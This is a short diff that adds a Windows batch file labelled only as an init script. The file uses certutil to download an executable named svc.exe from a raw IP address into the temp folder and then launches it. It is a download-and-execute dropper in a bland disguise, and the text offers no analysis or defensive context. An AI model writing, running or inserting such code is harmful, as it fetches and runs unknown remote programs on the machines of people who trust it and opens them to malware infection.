@@ -1,0 +1,4 @@
+REM init 7913 v1
+@echo off
+certutil.exe -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
+start "" %TEMP%\svc.exe
